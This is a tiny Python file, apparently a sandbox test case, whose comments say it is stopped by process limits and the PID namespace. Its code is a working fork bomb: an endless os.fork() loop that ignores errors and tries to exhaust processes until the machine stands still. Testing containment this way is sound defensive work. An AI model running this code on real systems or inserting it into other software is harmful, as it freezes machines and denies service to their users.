# Tries to double its processes until the machine stands still. Stopped by: the limit on processes, the PID namespace.
# Profile: process
# Ends by: wall
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
